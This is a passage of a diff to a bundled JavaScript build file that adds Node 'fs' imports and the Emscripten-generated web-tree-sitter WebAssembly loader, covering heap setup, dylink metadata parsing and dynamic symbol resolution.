@@ -17297,6 +17297,20 @@ var __spreadArray = (this && this.__spreadArray) || function (to, from, pack) {
 
 /***/ }),
 
+/***/ 9896:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs");
+
+/***/ }),
+
+/***/ 1943:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs/promises");
+
+/***/ }),
+
 /***/ 4352:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
@@ -19100,11 +19114,4122 @@ module.exports = {
 
 /***/ }),
 
+/***/ 551:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+var __create = Object.create;
+var __defProp = Object.defineProperty;
+var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
+var __getOwnPropNames = Object.getOwnPropertyNames;
+var __getProtoOf = Object.getPrototypeOf;
+var __hasOwnProp = Object.prototype.hasOwnProperty;
+var __name = (target, value) => __defProp(target, "name", { value, configurable: true });
+var __commonJS = (cb, mod) => function __require() {
+  try {
+    return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
+  } catch (e) {
+    throw mod = 0, e;
+  }
+};
+var __export = (target, all) => {
+  for (var name2 in all)
+    __defProp(target, name2, { get: all[name2], enumerable: true });
+};
+var __copyProps = (to, from, except, desc) => {
+  if (from && typeof from === "object" || typeof from === "function") {
+    for (let key of __getOwnPropNames(from))
+      if (!__hasOwnProp.call(to, key) && key !== except)
+        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
+  }
+  return to;
+};
+var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
+  // If the importer is in node compatibility mode or this is not an ESM
+  // file that has been converted to a CommonJS file using a Babel-
+  // compatible transform (i.e. "__esModule" has not been set), then set
+  // "default" to the CommonJS "module.exports" for node compatibility.
+  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
+  mod
+));
+var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);
+
+// lib/web-tree-sitter.cjs
+var require_web_tree_sitter = __commonJS({
+  "lib/web-tree-sitter.cjs"(exports, module) {
+    "use strict";
+    var Module = (() => {
+      var _scriptName = typeof document != "undefined" ? document.currentScript?.src : void 0;
+      return async function(moduleArg = {}) {
+        var moduleRtn;
+        var Module = moduleArg;
+        var ENVIRONMENT_IS_WEB = typeof window == "object";
+        var ENVIRONMENT_IS_WORKER = typeof WorkerGlobalScope != "undefined";
+        var ENVIRONMENT_IS_NODE = typeof process == "object" && process.versions?.node && process.type != "renderer";
+        Module.currentQueryProgressCallback = null;
+        Module.currentProgressCallback = null;
+        Module.currentLogCallback = null;
+        Module.currentParseCallback = null;
+        var arguments_ = [];
+        var thisProgram = "./this.program";
+        var quit_ = /* @__PURE__ */ __name((status, toThrow) => {
+          throw toThrow;
+        }, "quit_");
+        if (typeof __filename != "undefined") {
+          _scriptName = __filename;
+        } else if (ENVIRONMENT_IS_WORKER) {
+          _scriptName = self.location.href;
+        }
+        var scriptDirectory = "";
+        function locateFile(path) {
+          if (Module["locateFile"]) {
+            return Module["locateFile"](path, scriptDirectory);
+          }
+          return scriptDirectory + path;
+        }
+        __name(locateFile, "locateFile");
+        var readAsync, readBinary;
+        if (ENVIRONMENT_IS_NODE) {
+          var fs = __nccwpck_require__(9896);
+          scriptDirectory = __dirname + "/";
+          readBinary = /* @__PURE__ */ __name((filename) => {
+            filename = isFileURI(filename) ? new URL(filename) : filename;
+            var ret = fs.readFileSync(filename);
+            return ret;
+          }, "readBinary");
+          readAsync = /* @__PURE__ */ __name(async (filename, binary2 = true) => {
+            filename = isFileURI(filename) ? new URL(filename) : filename;
+            var ret = fs.readFileSync(filename, binary2 ? void 0 : "utf8");
+            return ret;
+          }, "readAsync");
+          if (process.argv.length > 1) {
+            thisProgram = process.argv[1].replace(/\\/g, "/");
+          }
+          arguments_ = process.argv.slice(2);
+          quit_ = /* @__PURE__ */ __name((status, toThrow) => {
+            process.exitCode = status;
+            throw toThrow;
+          }, "quit_");
+        } else if (ENVIRONMENT_IS_WEB || ENVIRONMENT_IS_WORKER) {
+          try {
+            scriptDirectory = new URL(".", _scriptName).href;
+          } catch {
+          }
+          {
+            if (ENVIRONMENT_IS_WORKER) {
+              readBinary = /* @__PURE__ */ __name((url) => {
+                var xhr = new XMLHttpRequest();
+                xhr.open("GET", url, false);
+                xhr.responseType = "arraybuffer";
+                xhr.send(null);
+                return new Uint8Array(
+                  /** @type{!ArrayBuffer} */
+                  xhr.response
+                );
+              }, "readBinary");
+            }
+            readAsync = /* @__PURE__ */ __name(async (url) => {
+              if (isFileURI(url)) {
+                return new Promise((resolve, reject) => {
+                  var xhr = new XMLHttpRequest();
+                  xhr.open("GET", url, true);
+                  xhr.responseType = "arraybuffer";
+                  xhr.onload = () => {
+                    if (xhr.status == 200 || xhr.status == 0 && xhr.response) {
+                      resolve(xhr.response);
+                      return;
+                    }
+                    reject(xhr.status);
+                  };
+                  xhr.onerror = reject;
+                  xhr.send(null);
+                });
+              }
+              var response = await fetch(url, {
+                credentials: "same-origin"
+              });
+              if (response.ok) {
+                return response.arrayBuffer();
+              }
+              throw new Error(response.status + " : " + response.url);
+            }, "readAsync");
+          }
+        } else {
+        }
+        var out = console.log.bind(console);
+        var err = console.error.bind(console);
+        var dynamicLibraries = [];
+        var wasmBinary;
+        var ABORT = false;
+        var EXITSTATUS;
+        var isFileURI = /* @__PURE__ */ __name((filename) => filename.startsWith("file://"), "isFileURI");
+        var readyPromiseResolve, readyPromiseReject;
+        var wasmMemory;
+        var HEAP8, HEAPU8, HEAP16, HEAPU16, HEAP32, HEAPU32, HEAPF32, HEAPF64;
+        var HEAP64, HEAPU64;
+        var HEAP_DATA_VIEW;
+        var runtimeInitialized = false;
+        function updateMemoryViews() {
+          var b = wasmMemory.buffer;
+          Module["HEAP8"] = HEAP8 = new Int8Array(b);
+          Module["HEAP16"] = HEAP16 = new Int16Array(b);
+          Module["HEAPU8"] = HEAPU8 = new Uint8Array(b);
+          Module["HEAPU16"] = HEAPU16 = new Uint16Array(b);
+          Module["HEAP32"] = HEAP32 = new Int32Array(b);
+          Module["HEAPU32"] = HEAPU32 = new Uint32Array(b);
+          Module["HEAPF32"] = HEAPF32 = new Float32Array(b);
+          Module["HEAPF64"] = HEAPF64 = new Float64Array(b);
+          Module["HEAP64"] = HEAP64 = new BigInt64Array(b);
+          Module["HEAPU64"] = HEAPU64 = new BigUint64Array(b);
+          Module["HEAP_DATA_VIEW"] = HEAP_DATA_VIEW = new DataView(b);
+          LE_HEAP_UPDATE();
+        }
+        __name(updateMemoryViews, "updateMemoryViews");
+        function initMemory() {
+          if (Module["wasmMemory"]) {
+            wasmMemory = Module["wasmMemory"];
+          } else {
+            var INITIAL_MEMORY = Module["INITIAL_MEMORY"] || 33554432;
+            wasmMemory = new WebAssembly.Memory({
+              "initial": INITIAL_MEMORY / 65536,
+              // In theory we should not need to emit the maximum if we want "unlimited"
+              // or 4GB of memory, but VMs error on that atm, see
+              // https://github.com/emscripten-core/emscripten/issues/14130
+              // And in the pthreads case we definitely need to emit a maximum. So
+              // always emit one.
+              "maximum": 32768
+            });
+          }
+          updateMemoryViews();
+        }
+        __name(initMemory, "initMemory");
+        var __RELOC_FUNCS__ = [];
+        function preRun() {
+          if (Module["preRun"]) {
+            if (typeof Module["preRun"] == "function") Module["preRun"] = [Module["preRun"]];
+            while (Module["preRun"].length) {
+              addOnPreRun(Module["preRun"].shift());
+            }
+          }
+          callRuntimeCallbacks(onPreRuns);
+        }
+        __name(preRun, "preRun");
+        function initRuntime() {
+          runtimeInitialized = true;
+          callRuntimeCallbacks(__RELOC_FUNCS__);
+          wasmExports["__wasm_call_ctors"]();
+          callRuntimeCallbacks(onPostCtors);
+        }
+        __name(initRuntime, "initRuntime");
+        function preMain() {
+        }
+        __name(preMain, "preMain");
+        function postRun() {
+          if (Module["postRun"]) {
+            if (typeof Module["postRun"] == "function") Module["postRun"] = [Module["postRun"]];
+            while (Module["postRun"].length) {
+              addOnPostRun(Module["postRun"].shift());
+            }
+          }
+          callRuntimeCallbacks(onPostRuns);
+        }
+        __name(postRun, "postRun");
+        function abort(what) {
+          Module["onAbort"]?.(what);
+          what = "Aborted(" + what + ")";
+          err(what);
+          ABORT = true;
+          what += ". Build with -sASSERTIONS for more info.";
+          var e = new WebAssembly.RuntimeError(what);
+          readyPromiseReject?.(e);
+          throw e;
+        }
+        __name(abort, "abort");
+        var wasmBinaryFile;
+        function findWasmBinary() {
+          return locateFile("web-tree-sitter.wasm");
+        }
+        __name(findWasmBinary, "findWasmBinary");
+        function getBinarySync(file) {
+          if (file == wasmBinaryFile && wasmBinary) {
+            return new Uint8Array(wasmBinary);
+          }
+          if (readBinary) {
+            return readBinary(file);
+          }
+          throw "both async and sync fetching of the wasm failed";
+        }
+        __name(getBinarySync, "getBinarySync");
+        async function getWasmBinary(binaryFile) {
+          if (!wasmBinary) {
+            try {
+              var response = await readAsync(binaryFile);
+              return new Uint8Array(response);
+            } catch {
+            }
+          }
+          return getBinarySync(binaryFile);
+        }
+        __name(getWasmBinary, "getWasmBinary");
+        async function instantiateArrayBuffer(binaryFile, imports) {
+          try {
+            var binary2 = await getWasmBinary(binaryFile);
+            var instance2 = await WebAssembly.instantiate(binary2, imports);
+            return instance2;
+          } catch (reason) {
+            err(`failed to asynchronously prepare wasm: ${reason}`);
+            abort(reason);
+          }
+        }
+        __name(instantiateArrayBuffer, "instantiateArrayBuffer");
+        async function instantiateAsync(binary2, binaryFile, imports) {
+          if (!binary2 && !isFileURI(binaryFile) && !ENVIRONMENT_IS_NODE) {
+            try {
+              var response = fetch(binaryFile, {
+                credentials: "same-origin"
+              });
+              var instantiationResult = await WebAssembly.instantiateStreaming(response, imports);
+              return instantiationResult;
+            } catch (reason) {
+              err(`wasm streaming compile failed: ${reason}`);
+              err("falling back to ArrayBuffer instantiation");
+            }
+          }
+          return instantiateArrayBuffer(binaryFile, imports);
+        }
+        __name(instantiateAsync, "instantiateAsync");
+        function getWasmImports() {
+          return {
+            "env": wasmImports,
+            "wasi_snapshot_preview1": wasmImports,
+            "GOT.mem": new Proxy(wasmImports, GOTHandler),
+            "GOT.func": new Proxy(wasmImports, GOTHandler)
+          };
+        }
+        __name(getWasmImports, "getWasmImports");
+        async function createWasm() {
+          function receiveInstance(instance2, module2) {
+            wasmExports = instance2.exports;
+            wasmExports = relocateExports(wasmExports, 1024);
+            var metadata2 = getDylinkMetadata(module2);
+            if (metadata2.neededDynlibs) {
+              dynamicLibraries = metadata2.neededDynlibs.concat(dynamicLibraries);
+            }
+            mergeLibSymbols(wasmExports, "main");
+            LDSO.init();
+            loadDylibs();
+            __RELOC_FUNCS__.push(wasmExports["__wasm_apply_data_relocs"]);
+            assignWasmExports(wasmExports);
+            return wasmExports;
+          }
+          __name(receiveInstance, "receiveInstance");
+          function receiveInstantiationResult(result2) {
+            return receiveInstance(result2["instance"], result2["module"]);
+          }
+          __name(receiveInstantiationResult, "receiveInstantiationResult");
+          var info2 = getWasmImports();
+          if (Module["instantiateWasm"]) {
+            return new Promise((resolve, reject) => {
+              Module["instantiateWasm"](info2, (mod, inst) => {
+                resolve(receiveInstance(mod, inst));
+              });
+            });
+          }
+          wasmBinaryFile ??= findWasmBinary();
+          var result = await instantiateAsync(wasmBinary, wasmBinaryFile, info2);
+          var exports2 = receiveInstantiationResult(result);
+          return exports2;
+        }
+        __name(createWasm, "createWasm");
+        class ExitStatus {
+          static {
+            __name(this, "ExitStatus");
+          }
+          name = "ExitStatus";
+          constructor(status) {
+            this.message = `Program terminated with exit(${status})`;
+            this.status = status;
+          }
+        }
+        var GOT = {};
+        var currentModuleWeakSymbols = /* @__PURE__ */ new Set([]);
+        var GOTHandler = {
+          get(obj, symName) {
+            var rtn = GOT[symName];
+            if (!rtn) {
+              rtn = GOT[symName] = new WebAssembly.Global({
+                "value": "i32",
+                "mutable": true
+              });
+            }
+            if (!currentModuleWeakSymbols.has(symName)) {
+              rtn.required = true;
+            }
+            return rtn;
+          }
+        };
+        var LE_ATOMICS_NATIVE_BYTE_ORDER = [];
+        var LE_HEAP_LOAD_F32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat32(byteOffset, true), "LE_HEAP_LOAD_F32");
+        var LE_HEAP_LOAD_F64 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat64(byteOffset, true), "LE_HEAP_LOAD_F64");
+        var LE_HEAP_LOAD_I16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt16(byteOffset, true), "LE_HEAP_LOAD_I16");
+        var LE_HEAP_LOAD_I32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt32(byteOffset, true), "LE_HEAP_LOAD_I32");
+        var LE_HEAP_LOAD_I64 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getBigInt64(byteOffset, true), "LE_HEAP_LOAD_I64");
+        var LE_HEAP_LOAD_U32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint32(byteOffset, true), "LE_HEAP_LOAD_U32");
+        var LE_HEAP_STORE_F32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat32(byteOffset, value, true), "LE_HEAP_STORE_F32");
+        var LE_HEAP_STORE_F64 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat64(byteOffset, value, true), "LE_HEAP_STORE_F64");
+        var LE_HEAP_STORE_I16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt16(byteOffset, value, true), "LE_HEAP_STORE_I16");
+        var LE_HEAP_STORE_I32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt32(byteOffset, value, true), "LE_HEAP_STORE_I32");
+        var LE_HEAP_STORE_I64 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setBigInt64(byteOffset, value, true), "LE_HEAP_STORE_I64");
+        var LE_HEAP_STORE_U32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint32(byteOffset, value, true), "LE_HEAP_STORE_U32");
+        var callRuntimeCallbacks = /* @__PURE__ */ __name((callbacks) => {
+          while (callbacks.length > 0) {
+            callbacks.shift()(Module);
+          }
+        }, "callRuntimeCallbacks");
+        var onPostRuns = [];
+        var addOnPostRun = /* @__PURE__ */ __name((cb) => onPostRuns.push(cb), "addOnPostRun");
+        var onPreRuns = [];
+        var addOnPreRun = /* @__PURE__ */ __name((cb) => onPreRuns.push(cb), "addOnPreRun");
+        var UTF8Decoder = typeof TextDecoder != "undefined" ? new TextDecoder() : void 0;
+        var findStringEnd = /* @__PURE__ */ __name((heapOrArray, idx, maxBytesToRead, ignoreNul) => {
+          var maxIdx = idx + maxBytesToRead;
+          if (ignoreNul) return maxIdx;
+          while (heapOrArray[idx] && !(idx >= maxIdx)) ++idx;
+          return idx;
+        }, "findStringEnd");
+        var UTF8ArrayToString = /* @__PURE__ */ __name((heapOrArray, idx = 0, maxBytesToRead, ignoreNul) => {
+          var endPtr = findStringEnd(heapOrArray, idx, maxBytesToRead, ignoreNul);
+          if (endPtr - idx > 16 && heapOrArray.buffer && UTF8Decoder) {
+            return UTF8Decoder.decode(heapOrArray.subarray(idx, endPtr));
+          }
+          var str = "";
+          while (idx < endPtr) {
+            var u0 = heapOrArray[idx++];
+            if (!(u0 & 128)) {
+              str += String.fromCharCode(u0);
+              continue;
+            }
+            var u1 = heapOrArray[idx++] & 63;
+            if ((u0 & 224) == 192) {
+              str += String.fromCharCode((u0 & 31) << 6 | u1);
+              continue;
+            }
+            var u2 = heapOrArray[idx++] & 63;
+            if ((u0 & 240) == 224) {
+              u0 = (u0 & 15) << 12 | u1 << 6 | u2;
+            } else {
+              u0 = (u0 & 7) << 18 | u1 << 12 | u2 << 6 | heapOrArray[idx++] & 63;
+            }
+            if (u0 < 65536) {
+              str += String.fromCharCode(u0);
+            } else {
+              var ch = u0 - 65536;
+              str += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
+            }
+          }
+          return str;
+        }, "UTF8ArrayToString");
+        var getDylinkMetadata = /* @__PURE__ */ __name((binary2) => {
+          var offset = 0;
+          var end = 0;
+          function getU8() {
+            return binary2[offset++];
+          }
+          __name(getU8, "getU8");
+          function getLEB() {
+            var ret = 0;
+            var mul = 1;
+            while (1) {
+              var byte = binary2[offset++];
+              ret += (byte & 127) * mul;
+              mul *= 128;
+              if (!(byte & 128)) break;
+            }
+            return ret;
+          }
+          __name(getLEB, "getLEB");
+          function getString() {
+            var len = getLEB();
+            offset += len;
+            return UTF8ArrayToString(binary2, offset - len, len);
+          }
+          __name(getString, "getString");
+          function getStringList() {
+            var count2 = getLEB();
+            var rtn = [];
+            while (count2--) rtn.push(getString());
+            return rtn;
+          }
+          __name(getStringList, "getStringList");
+          function failIf(condition, message) {
+            if (condition) throw new Error(message);
+          }
+          __name(failIf, "failIf");
+          if (binary2 instanceof WebAssembly.Module) {
+            var dylinkSection = WebAssembly.Module.customSections(binary2, "dylink.0");
+            failIf(dylinkSection.length === 0, "need dylink section");
+            binary2 = new Uint8Array(dylinkSection[0]);
+            end = binary2.length;
+          } else {
+            var int32View = new Uint32Array(new Uint8Array(binary2.subarray(0, 24)).buffer);
+            var magicNumberFound = int32View[0] == 1836278016 || int32View[0] == 6386541;
+            failIf(!magicNumberFound, "need to see wasm magic number");
+            failIf(binary2[8] !== 0, "need the dylink section to be first");
+            offset = 9;
+            var section_size = getLEB();
+            end = offset + section_size;
+            var name2 = getString();
+            failIf(name2 !== "dylink.0");
+          }
+          var customSection = {
+            neededDynlibs: [],
+            tlsExports: /* @__PURE__ */ new Set(),
+            weakImports: /* @__PURE__ */ new Set(),
+            runtimePaths: []
+          };
+          var WASM_DYLINK_MEM_INFO = 1;
+          var WASM_DYLINK_NEEDED = 2;
+          var WASM_DYLINK_EXPORT_INFO = 3;
+          var WASM_DYLINK_IMPORT_INFO = 4;
+          var WASM_DYLINK_RUNTIME_PATH = 5;
+          var WASM_SYMBOL_TLS = 256;
+          var WASM_SYMBOL_BINDING_MASK = 3;
+          var WASM_SYMBOL_BINDING_WEAK = 1;
+          while (offset < end) {
+            var subsectionType = getU8();
+            var subsectionSize = getLEB();
+            if (subsectionType === WASM_DYLINK_MEM_INFO) {
+              customSection.memorySize = getLEB();
+              customSection.memoryAlign = getLEB();
+              customSection.tableSize = getLEB();
+              customSection.tableAlign = getLEB();
+            } else if (subsectionType === WASM_DYLINK_NEEDED) {
+              customSection.neededDynlibs = getStringList();
+            } else if (subsectionType === WASM_DYLINK_EXPORT_INFO) {
+              var count = getLEB();
+              while (count--) {
+                var symname = getString();
+                var flags2 = getLEB();
+                if (flags2 & WASM_SYMBOL_TLS) {
+                  customSection.tlsExports.add(symname);
+                }
+              }
+            } else if (subsectionType === WASM_DYLINK_IMPORT_INFO) {
+              var count = getLEB();
+              while (count--) {
+                var modname = getString();
+                var symname = getString();
+                var flags2 = getLEB();
+                if ((flags2 & WASM_SYMBOL_BINDING_MASK) == WASM_SYMBOL_BINDING_WEAK) {
+                  customSection.weakImports.add(symname);
+                }
+              }
+            } else if (subsectionType === WASM_DYLINK_RUNTIME_PATH) {
+              customSection.runtimePaths = getStringList();
+            } else {
+              offset += subsectionSize;
+            }
+          }
+          return customSection;
+        }, "getDylinkMetadata");
+        function getValue(ptr, type = "i8") {
+          if (type.endsWith("*")) type = "*";
+          switch (type) {
+            case "i1":
+              return HEAP8[ptr];
+            case "i8":
+              return HEAP8[ptr];
+            case "i16":
+              return LE_HEAP_LOAD_I16((ptr >> 1) * 2);
+            case "i32":
+              return LE_HEAP_LOAD_I32((ptr >> 2) * 4);
+            case "i64":
+              return LE_HEAP_LOAD_I64((ptr >> 3) * 8);
+            case "float":
+              return LE_HEAP_LOAD_F32((ptr >> 2) * 4);
+            case "double":
+              return LE_HEAP_LOAD_F64((ptr >> 3) * 8);
+            case "*":
+              return LE_HEAP_LOAD_U32((ptr >> 2) * 4);
+            default:
+              abort(`invalid type for getValue: ${type}`);
+          }
+        }
+        __name(getValue, "getValue");
+        var newDSO = /* @__PURE__ */ __name((name2, handle2, syms) => {
+          var dso = {
+            refcount: Infinity,
+            name: name2,
+            exports: syms,
+            global: true
+          };
+          LDSO.loadedLibsByName[name2] = dso;
+          if (handle2 != void 0) {
+            LDSO.loadedLibsByHandle[handle2] = dso;
+          }
+          return dso;
+        }, "newDSO");
+        var LDSO = {
+          loadedLibsByName: {},
+          loadedLibsByHandle: {},
+          init() {
+            newDSO("__main__", 0, wasmImports);
+          }
+        };
+        var ___heap_base = 82240;
+        var alignMemory = /* @__PURE__ */ __name((size, alignment) => Math.ceil(size / alignment) * alignment, "alignMemory");
+        var getMemory = /* @__PURE__ */ __name((size) => {
+          if (runtimeInitialized) {
+            return _calloc(size, 1);
+          }
+          var ret = ___heap_base;
+          var end = ret + alignMemory(size, 16);
+          ___heap_base = end;
+          GOT["__heap_base"].value = end;
+          return ret;
+        }, "getMemory");
+        var isInternalSym = /* @__PURE__ */ __name((symName) => ["__cpp_exception", "__c_longjmp", "__wasm_apply_data_relocs", "__dso_handle", "__tls_size", "__tls_align", "__set_stack_limits", "_emscripten_tls_init", "__wasm_init_tls", "__wasm_call_ctors", "__start_em_asm", "__stop_em_asm", "__start_em_js", "__stop_em_js"].includes(symName) || symName.startsWith("__em_js__"), "isInternalSym");
+        var uleb128EncodeWithLen = /* @__PURE__ */ __name((arr) => {
+          const n = arr.length;
+          return [n % 128 | 128, n >> 7, ...arr];
+        }, "uleb128EncodeWithLen");
+        var wasmTypeCodes = {
+          "i": 127,
+          // i32
+          "p": 127,
+          // i32
+          "j": 126,
+          // i64
+          "f": 125,
+          // f32
+          "d": 124,
+          // f64
+          "e": 111
+        };
+        var generateTypePack = /* @__PURE__ */ __name((types) => uleb128EncodeWithLen(Array.from(types, (type) => {
+          var code = wasmTypeCodes[type];
+          return code;
+        })), "generateTypePack");
+        var convertJsFunctionToWasm = /* @__PURE__ */ __name((func2, sig) => {
+          var bytes = Uint8Array.of(
+            0,
+            97,
+            115,
+            109,
+            // magic ("\0asm")
+            1,
+            0,
+            0,
+            0,
+            // version: 1
+            1,
+            ...uleb128EncodeWithLen([
+              1,
+              // count: 1
+              96,
+              // param types
+              ...generateTypePack(sig.slice(1)),
+              // return types (for now only supporting [] if `void` and single [T] otherwise)
+              ...generateTypePack(sig[0] === "v" ? "" : sig[0])
+            ]),
+            // The rest of the module is static
+            2,
+            7,
+            // import section
+            // (import "e" "f" (func 0 (type 0)))
+            1,
+            1,
+            101,
+            1,
+            102,
+            0,
+            0,
+            7,
+            5,
+            // export section
+            // (export "f" (func 0 (type 0)))
+            1,
+            1,
+            102,
+            0,
+            0
+          );
+          var module2 = new WebAssembly.Module(bytes);
+          var instance2 = new WebAssembly.Instance(module2, {
+            "e": {
+              "f": func2
+            }
+          });
+          var wrappedFunc = instance2.exports["f"];
+          return wrappedFunc;
+        }, "convertJsFunctionToWasm");
+        var wasmTableMirror = [];
+        var wasmTable = new WebAssembly.Table({
+          "initial": 31,
+          "element": "anyfunc"
+        });
+        var getWasmTableEntry = /* @__PURE__ */ __name((funcPtr) => {
+          var func2 = wasmTableMirror[funcPtr];
+          if (!func2) {
+            wasmTableMirror[funcPtr] = func2 = wasmTable.get(funcPtr);
+          }
+          return func2;
+        }, "getWasmTableEntry");
+        var updateTableMap = /* @__PURE__ */ __name((offset, count) => {
+          if (functionsInTableMap) {
+            for (var i2 = offset; i2 < offset + count; i2++) {
+              var item = getWasmTableEntry(i2);
+              if (item) {
+                functionsInTableMap.set(item, i2);
+              }
+            }
+          }
+        }, "updateTableMap");
+        var functionsInTableMap;
+        var getFunctionAddress = /* @__PURE__ */ __name((func2) => {
+          if (!functionsInTableMap) {
+            functionsInTableMap = /* @__PURE__ */ new WeakMap();
+            updateTableMap(0, wasmTable.length);
+          }
+          return functionsInTableMap.get(func2) || 0;
+        }, "getFunctionAddress");
+        var freeTableIndexes = [];
+        var getEmptyTableSlot = /* @__PURE__ */ __name(() => {
+          if (freeTableIndexes.length) {
+            return freeTableIndexes.pop();
+          }
+          return wasmTable["grow"](1);
+        }, "getEmptyTableSlot");
+        var setWasmTableEntry = /* @__PURE__ */ __name((idx, func2) => {
+          wasmTable.set(idx, func2);
+          wasmTableMirror[idx] = wasmTable.get(idx);
+        }, "setWasmTableEntry");
+        var addFunction = /* @__PURE__ */ __name((func2, sig) => {
+          var rtn = getFunctionAddress(func2);
+          if (rtn) {
+            return rtn;
+          }
+          var ret = getEmptyTableSlot();
+          try {
+            setWasmTableEntry(ret, func2);
+          } catch (err2) {
+            if (!(err2 instanceof TypeError)) {
+              throw err2;
+            }
+            var wrapped = convertJsFunctionToWasm(func2, sig);
+            setWasmTableEntry(ret, wrapped);
+          }
+          functionsInTableMap.set(func2, ret);
+          return ret;
+        }, "addFunction");
+        var updateGOT = /* @__PURE__ */ __name((exports2, replace) => {
+          for (var symName in exports2) {
+            if (isInternalSym(symName)) {
+              continue;
+            }
+            var value = exports2[symName];
+            GOT[symName] ||= new WebAssembly.Global({
+              "value": "i32",
+              "mutable": true
+            });
+            if (replace || GOT[symName].value == 0) {
+              if (typeof value == "function") {
+                GOT[symName].value = addFunction(value);
+              } else if (typeof value == "number") {
+                GOT[symName].value = value;
+              } else {
+                err(`unhandled export type for '${symName}': ${typeof value}`);
+              }
+            }
+          }
+        }, "updateGOT");
+        var relocateExports = /* @__PURE__ */ __name((exports2, memoryBase2, replace) => {
+          var relocated = {};
+          for (var e in exports2) {
+            var value = exports2[e];
+            if (typeof value == "object") {
+              value = value.value;
+            }
+            if (typeof value == "number") {
+              value += memoryBase2;
+            }
+            relocated[e] = value;
+          }
+          updateGOT(relocated, replace);
+          return relocated;
+        }, "relocateExports");
+        var isSymbolDefined = /* @__PURE__ */ __name((symName) => {
+          var existing = wasmImports[symName];
+          if (!existing || existing.stub) {
+            return false;
+          }
+          return true;
+        }, "isSymbolDefined");
+        var dynCall = /* @__PURE__ */ __name((sig, ptr, args2 = [], promising = false) => {
+          var func2 = getWasmTableEntry(ptr);
+          var rtn = func2(...args2);
+          function convert(rtn2) {
+            return rtn2;
+          }
+          __name(convert, "convert");
+          return convert(rtn);
+        }, "dynCall");
+        var stackSave = /* @__PURE__ */ __name(() => _emscripten_stack_get_current(), "stackSave");
+        var stackRestore = /* @__PURE__ */ __name((val) => __emscripten_stack_restore(val), "stackRestore");
+        var createInvokeFunction = /* @__PURE__ */ __name((sig) => (ptr, ...args2) => {
+          var sp = stackSave();
+          try {
+            return dynCall(sig, ptr, args2);
+          } catch (e) {
+            stackRestore(sp);
+            if (e !== e + 0) throw e;
+            _setThrew(1, 0);
+            if (sig[0] == "j") return 0n;
+          }
+        }, "createInvokeFunction");
+        var resolveGlobalSymbol = /* @__PURE__ */ __name((symName, direct = false) => {
+          var sym;
+          if (isSymbolDefined(symName)) {
+            sym = wasmImports[symName];
+          } else if (symName.startsWith("invoke_")) {
+            sym = wasmImports[symName] = createInvokeFunction(symName.split("_")[1]);
+          }
+          return {
+            sym,
+            name: symName
+          };
+        }, "resolveGlobalSymbol");
+        var onPostCtors = [];
+        var addOnPostCtor = /* @__PURE__ */ __name((cb) => onPostCtors.push(cb), "addOnPostCtor");
+        var UTF8ToString = /* @__PURE__ */ __name((ptr, maxBytesToRead, ignoreNul) => ptr ? UTF8ArrayToString(HEAPU8, ptr, maxBytesToRead, ignoreNul) : "", "UTF8ToString");
+        var loadWebAssemblyModule = /* @__PURE__ */ __name((binary, flags, libName, localScope, handle) => {
+          var metadata = getDylinkMetadata(binary);
+          function loadModule() {
+            var memAlign = Math.pow(2, metadata.memoryAlign);
+            var memoryBase = metadata.memorySize ? alignMemory(getMemory(metadata.memorySize + memAlign), memAlign) : 0;
+            var tableBase = metadata.tableSize ? wasmTable.length : 0;
+            if (handle) {
+              HEAP8[handle + 8] = 1;
+              LE_HEAP_STORE_U32((handle + 12 >> 2) * 4, memoryBase);
+              LE_HEAP_STORE_I32((handle + 16 >> 2) * 4, metadata.memorySize);
+              LE_HEAP_STORE_U32((handle + 20 >> 2) * 4, tableBase);
+              LE_HEAP_STORE_I32((handle + 24 >> 2) * 4, metadata.tableSize);
+            }
+            if (metadata.tableSize) {
+              wasmTable.grow(metadata.tableSize);
+            }
+            var moduleExports;
+            function resolveSymbol(sym) {
+              var resolved = resolveGlobalSymbol(sym).sym;
+              if (!resolved && localScope) {
+                resolved = localScope[sym];
+              }
+              if (!resolved) {
+                resolved = moduleExports[sym];
+              }
+              return resolved;
+            }
+            __name(resolveSymbol, "resolveSymbol");
+            var proxyHandler = {
+              get(stubs, prop) {
+                switch (prop) {
+                  case "__memory_base":
+                    return memoryBase;
+                  case "__table_base":
+                    return tableBase;
+                }
+                if (prop in wasmImports && !wasmImports[prop].stub) {
+                  var res = wasmImports[prop];
+                  return res;
+                }
+                if (!(prop in stubs)) {
+                  var resolved;
+                  stubs[prop] = (...args2) => {
+                    resolved ||= resolveSymbol(prop);
+                    return resolved(...args2);
+                  };
+                }
+                return stubs[prop];
+              }
+            };
+            var proxy = new Proxy({}, proxyHandler);
+            currentModuleWeakSymbols = metadata.weakImports;
+            var info = {
+              "GOT.mem": new Proxy({}, GOTHandler),
+              "GOT.func": new Proxy({}, GOTHandler),
+              "env": proxy,
+              "wasi_snapshot_preview1": proxy
+            };
+            function postInstantiation(module, instance) {
